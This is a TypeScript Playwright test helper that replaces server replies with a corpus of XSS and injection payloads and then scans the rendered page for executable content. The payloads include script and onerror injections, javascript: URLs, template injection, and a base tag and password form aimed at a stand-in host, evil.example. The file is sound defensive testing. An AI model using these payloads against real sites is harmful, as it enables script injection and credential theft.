import type { Page } from '@playwright/test';

/** What an attacker, or a careless clerk, may have written into any text of the server. */
export const corpus: readonly string[] = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '</title><script>alert(1)</script>',
  '</textarea><iframe srcdoc="<script>parent.alert(1)</script>">',
  '<a href="javascript:alert(1)">klik</a>',
  'javascript:alert(1)//',
  'data:text/html,<script>alert(1)</script>',
  "';alert(1);//",
  '{{constructor.constructor("alert(1)")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template that somebody might evaluate
  '${alert(1)}',
  '&lt;img src=x onerror=alert(1)&gt;',
  '<style>*{display:none}</style>',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example/"><input name=password>',
  '\u202Egnp.exe\u202C\u2066balik\u2069',
  'kata\u200Bnol\uFEFFlebar\u200D',
  'TanpaSpasi'.repeat(40),
];

export type Mode = 'texts' | 'refused' | 'invalid';

/** Runs in the page, before all else: what every reply says is replaced, its shape is kept. */
const replaceReplies = ({ texts, startMode }: { texts: readonly string[]; startMode: Mode }) => {
  const state = { mode: startMode, next: 0 };
  Object.assign(window, { hostileReplies: state });
  const another = () => texts[state.next++ % texts.length] ?? '';

  const namesSomething =
    /(^|_)(ids?|slug|token|status|type|source|url|path|page|at|date|until|method|code|stage|key|kind)$/;
  const isWordOfTheProgram = (text: string) => /^[a-z0-9_.-]*$/.test(text) || /^[A-Z0-9_./-]*$/.test(text);
  const isDateOrData = (text: string) => /^(\d{4}-\d{2}-\d{2}|data:)/.test(text);
  const hostile = (value: unknown, key: string): unknown => {
    if (Array.isArray(value)) return value.map((each) => hostile(each, key));
    if (value && typeof value === 'object') {
      return Object.fromEntries(Object.entries(value).map(([name, each]) => [name, hostile(each, name)]));
    }
    if (typeof value !== 'string') return value;
    if (key === 'photo') return another();
    return namesSomething.test(key) || isWordOfTheProgram(value) || isDateOrData(value) ? value : another();
  };

  const readText = Response.prototype.text;
  Response.prototype.text = async function text() {
    const real = await readText.call(this);
    if (this.url.endsWith('/config.json')) return real;
    if (state.mode === 'refused')
      return JSON.stringify({ code: '02', message: `Validation ${texts.join(' | ')}`, data: null });
    if (state.mode === 'invalid')
      return JSON.stringify({ code: '03', message: another(), errors: { email: texts, '<img src=x>': texts } });
    try {
      return JSON.stringify(hostile(JSON.parse(real), ''));
    } catch {
      return real;
    }
  };
};

/** From the next page on, the server speaks the corpus, or these texts. */
export const makeRepliesHostile = (page: Page, mode: Mode = 'texts', texts: readonly string[] = corpus) =>
  page.addInitScript(replaceReplies, { texts, startMode: mode });

/** What the page shows that could run, load or lead where it must not. Nothing, if all is well. */
export const dangersOf = (page: Page): Promise<string[]> =>
  page.evaluate(() => {
    const dangers: string[] = [];
    const runs = /^\s*(javascript|vbscript|data:(?!image\/(png|jpeg|webp)[;,]))/i;
    for (const element of document.querySelectorAll('*')) {
      const name = element.tagName.toLowerCase();
      const of = (what: string) => `${what} in ${element.outerHTML.slice(0, 120)}`;
      const isPictureOfQuestion =
        name === 'img' && location.pathname.startsWith('/myassessment/exam/') && element.closest('main') !== null;
      if (['iframe', 'object', 'embed', 'base', 'math'].includes(name)) dangers.push(of(name));
      if (name === 'script' && !(element as HTMLScriptElement).src) dangers.push(of('inline script'));
      for (const { name: attribute, value } of element.attributes) {
        if (attribute.startsWith('on')) dangers.push(of(attribute));
        const isDrawing = attribute === 'src' && /^data:image\/svg\+xml[;,]/i.test(value); // an <img> runs nothing in it
        if (
          ['href', 'src', 'xlink:href', 'action', 'formaction', 'srcdoc'].includes(attribute) &&
          runs.test(value) &&
          !(isPictureOfQuestion && isDrawing)
        )
          dangers.push(of(attribute));
        if (
          /evil\.example/.test(value) &&
          !['title', 'value', 'alt'].includes(attribute) && // text only
          !attribute.startsWith('aria-')
        )
          dangers.push(of(attribute));
      }
    }
    return dangers;
  });

/** Which entries of the corpus stand in the page as they were written. */
export const shownLiterally = async (page: Page): Promise<string[]> => {
  const text = (await page.evaluate(() => document.body.textContent)) ?? '';
  return corpus.filter((entry) => text.includes(entry));
};
